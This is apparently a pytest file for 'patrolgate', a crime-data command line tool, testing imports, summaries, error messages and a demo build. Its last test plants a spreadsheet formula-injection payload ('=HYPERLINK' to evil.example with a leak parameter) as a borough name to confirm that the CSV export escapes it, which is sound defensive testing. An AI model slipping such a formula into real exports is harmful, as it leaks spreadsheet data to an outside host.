"""The command line of the foundation: imports, areas, summaries and the demo, end to end."""

from __future__ import annotations

import csv
import gzip
import json
import shutil
from collections import Counter
from pathlib import Path

import pytest
from sqlalchemy import select, update
from tests.conftest import SHIPPED_DATA
from typer.testing import CliRunner

from patrolgate.cli import app
from patrolgate.store import create_database
from patrolgate.store.tables import AreaRow, EventRow

runner = CliRunner()
BOUNDARIES = SHIPPED_DATA / "london-boundaries"
HOMICIDES = SHIPPED_DATA / "mps-homicide" / "mps_homicide_victims_2003-01_2023-12.csv.gz"


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A fresh PATROLGATE_HOME with nothing else set."""
    for name in (
        "PATROLGATE_DATABASE_URL",
        "PATROLGATE_NOW",
        "PATROLGATE_MODE",
        "PATROLGATE_DEMO_DATA",
    ):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("PATROLGATE_HOME", str(tmp_path / "home"))
    return tmp_path / "home"


def invoke(*args: str) -> tuple[int, str, str]:
    """Run the CLI; returns exit code, standard output and standard error."""
    result = runner.invoke(app, list(args))
    if result.exception and not isinstance(result.exception, SystemExit):
        raise result.exception
    return result.exit_code, result.stdout, result.stderr


def import_boroughs() -> None:
    """Import the shipped London boroughs."""
    code, _, err = invoke(
        "areas",
        "import",
        str(BOUNDARIES / "london_boroughs.geojson.gz"),
        "--level",
        "borough",
        "--code-field",
        "gss_code",
        "--name-field",
        "name",
    )
    assert code == 0, err


def test_homicide_summary_reports_exactly_what_the_file_holds(home: Path) -> None:
    """`events summary --category homicide --by year --format json` equals the file's counts."""
    import_boroughs()
    code, out, err = invoke("import", "homicides", str(HOMICIDES), "--format", "json")
    assert code == 0, err
    assert json.loads(out)[0]["stored"] == 2912
    _, out, _ = invoke(
        "events", "summary", "--category", "homicide", "--by", "year", "--format", "json"
    )
    assert code == 0
    with gzip.open(HOMICIDES, "rt", encoding="utf-8") as handle:
        expected = Counter(2000 + int(r["Recorded Date"][-2:]) for r in csv.DictReader(handle))
    assert json.loads(out) == [{"year": y, "count": n} for y, n in sorted(expected.items())]
    code, out, _ = invoke("events", "summary", "--category", "homicide", "--by", "year")
    assert "Year to date: 109 in 2023 (January–December) against 108" in out


def test_summary_by_borough_and_csv_output(home: Path) -> None:
    """Borough names come with their codes; CSV output has a header and one row per group."""
    import_boroughs()
    invoke("import", "homicides", str(HOMICIDES))
    _, out, _ = invoke(
        "events",
        "summary",
        "--category",
        "homicide",
        "--by",
        "borough",
        "--from",
        "2017-01-01",
        "--to",
        "2018-01-01",
        "--format",
        "json",
    )
    groups = json.loads(out)
    assert sum(g["count"] for g in groups) == 141
    lambeth = next(g for g in groups if g["borough"] == "Lambeth")
    assert lambeth["borough_code"] == "E09000022"
    _code, out, _ = invoke(
        "events", "summary", "--by", "category", "--category", "all", "--format", "csv"
    )
    assert out.splitlines() == ["category,count", "homicide,2912"]


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "the file is empty"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "binary file"),
        (b"name,when\nx,1\n", "not a data.police.uk street-level or stop-and-search file"),
    ],
)
def test_a_file_that_is_not_what_the_importer_expects_exits_2(
    home: Path, tmp_path: Path, content: bytes, message: str
) -> None:
    """One clear message on standard error, exit code 2, no traceback, nothing stored."""
    path = tmp_path / "input.csv"
    path.write_bytes(content)
    code, out, err = invoke("import", "police-uk", str(path))
    assert code == 2
    assert message in err and "Traceback" not in err
    code, out, _ = invoke("events", "summary", "--category", "all", "--format", "json")
    assert json.loads(out) == []


def test_rejected_rows_are_listed_and_strict_stores_nothing(home: Path, tmp_path: Path) -> None:
    """Without --strict the good rows are stored; with it, the file is refused whole."""
    lines = (
        gzip.decompress(
            (
                SHIPPED_DATA
                / "police-uk"
                / "city-of-london-street"
                / "2017-01-city-of-london-street.csv.gz"
            ).read_bytes()
        )
        .decode()
        .splitlines()
    )
    lines[2] = lines[2].replace(",2017-01,", ",2017/01,")
    path = tmp_path / "2017-01.csv"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    code, _, err = invoke("import", "police-uk", "--strict", str(path))
    assert code == 2 and "--strict" in err
    code, out, err = invoke("import", "police-uk", str(path), "--format", "json")
    assert code == 0
    assert f"{path}:3: Month: '2017/01' is not YYYY-MM" in err
    assert json.loads(out)[0] | {"file": None} == {
        "file": None,
        "importer": "police-uk",
        "rows_read": 483,
        "stored": 482,
        "already_stored": 0,
        "conflicting": 0,
        "rejected": 1,
        "extra_events": 0,
        "blank_lines": 0,
        "fields_kept": ["Crime ID", "Month", "Longitude", "Latitude", "LSOA code", "Crime type"],
        "warnings": [],
    }


def test_any_city_csv_with_its_own_areas(home: Path, tmp_path: Path) -> None:
    """Chicago districts and a sample of its assaults: UTM projection, district codes assigned."""
    code, out, err = invoke(
        "areas",
        "import",
        str(SHIPPED_DATA / "chicago" / "chicago_police_districts_2018.geojson.gz"),
        "--level",
        "district",
        "--code-field",
        "district",
        "--name-field",
        "description",
        "--format",
        "json",
    )
    assert code == 0, err
    assert json.loads(out)["crs"] == "EPSG:32616"
    with gzip.open(
        SHIPPED_DATA / "chicago" / "chicago_aggravated_assaults_2010-2017.csv.gz", "rt"
    ) as f:
        sample = [next(f) for _ in range(2001)]
    path = tmp_path / "chicago-sample.csv"
    path.write_text("".join(sample), encoding="utf-8")
    code, out, err = invoke(
        "import",
        "csv",
        str(path),
        "--time",
        "date",
        "--lat",
        "latitude",
        "--lon",
        "longitude",
        "--category-value",
        "aggravated assault",
        "--time-format",
        "%Y-%m-%d %H:%M",
        "--timezone",
        "America/Chicago",
        "--format",
        "json",
    )
    assert code == 0, err
    assert json.loads(out)[0]["stored"] == 2000
    code, out, _ = invoke("events", "summary", "--by", "category", "--format", "json")
    assert json.loads(out) == [{"category": "violence-with-injury", "count": 2000}]


def test_any_city_csv_with_a_place_type_column(home: Path, tmp_path: Path) -> None:
    """``--place-column loc_cat`` keeps each event's kind of place; a value outside the
    closed list is named with its file, row and field, and --strict then stores nothing."""
    with gzip.open(
        SHIPPED_DATA / "chicago" / "chicago_aggravated_assaults_2010-2017.csv.gz", "rt"
    ) as f:
        sample = [next(f) for _ in range(201)]
    sample[5] = (
        sample[5].replace(",residence,", ",John's house,").replace(",street,", ",John's house,")
    )
    assert "John's house" in sample[5]
    path = tmp_path / "chicago-places.csv"
    path.write_text("".join(sample), encoding="utf-8")
    layout = [
        "--time",
        "date",
        "--lat",
        "latitude",
        "--lon",
        "longitude",
        "--category-value",
        "aggravated assault",
        "--time-format",
        "%Y-%m-%d %H:%M",
        "--timezone",
        "America/Chicago",
        "--place-column",
        "loc_cat",
    ]
    code, _, err = invoke("import", "csv", str(path), *layout, "--strict")
    assert code == 2 and "--strict" in err and f"{path}:6: loc_cat: unknown place type" in err
    code, out, err = invoke("import", "csv", str(path), *layout, "--format", "json")
    assert code == 0, err
    assert f"{path}:6: loc_cat: unknown place type" in err
    report = json.loads(out)[0]
    assert (report["stored"], report["rejected"]) == (199, 1)
    assert "loc_cat" in report["fields_kept"]
    database = create_database(f"sqlite:///{home / 'patrolgate.db'}")
    try:
        with database.sessions() as session:
            places = Counter(session.scalars(select(EventRow.place_type)))
    finally:
        database.dispose()
    expected = Counter(next(csv.reader([line]))[1] for line in sample[1:])
    del expected["John's house"]
    assert places == expected


def test_demo_builds_once_and_only_once(
    home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A small copy of the shipped data: the second run imports nothing and reports the same."""
    data = tmp_path / "demo-data"
    shutil.copytree(BOUNDARIES, data / "london-boundaries")
    for folder in ("mopac-pas", "london-population"):
        shutil.copytree(SHIPPED_DATA / folder, data / folder)
    (data / "mps-homicide").mkdir(parents=True)
    shutil.copy(HOMICIDES, data / "mps-homicide")
    city = data / "police-uk" / "city-of-london-street"
    city.mkdir(parents=True)
    shutil.copy(
        SHIPPED_DATA
        / "police-uk"
        / "city-of-london-street"
        / "2018-07-city-of-london-street.csv.gz",
        city,
    )
    monkeypatch.setenv("PATROLGATE_DEMO_DATA", str(data))
    code, first, err = invoke("demo", "--no-serve")
    assert code == 0, err
    assert "imported 33 borough boundaries" in first
    assert "imported 2018-07-city-of-london-street.csv.gz: 766 events" in first
    assert "3,678 events" in first
    assert "3 example deployments" in first
    code, second, err = invoke("demo", "--no-serve")
    assert code == 0, err
    assert "imported" not in second and "oversight data" not in second
    assert "3,678 events" in second
    code, listed, _ = invoke("deployment", "list", "--as", "sfc.adams", "--format", "json")
    assert code == 0 and len(json.loads(listed)) == 3


def test_summary_csv_carries_no_formula_from_imported_names(home: Path) -> None:
    """A borough named ``=HYPERLINK(...)`` (as an imported name may be): the summary's CSV
    cell starts with an apostrophe, so a spreadsheet shows the text instead of running it."""
    formula = '=HYPERLINK("https://evil.example/?leak="&A2,"Camden")'
    import_boroughs()
    invoke("import", "homicides", str(HOMICIDES))
    database = create_database(f"sqlite:///{home / 'patrolgate.db'}")
    with database.transaction() as session:
        session.execute(update(AreaRow).where(AreaRow.name == "Camden").values(name=formula))
    database.dispose()
    code, out, err = invoke("events", "summary", "--by", "borough", "--format", "csv")
    assert code == 0, err
    cells = [cell for row in csv.reader(out.splitlines()) for cell in row]
    assert "'" + formula in cells
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))]
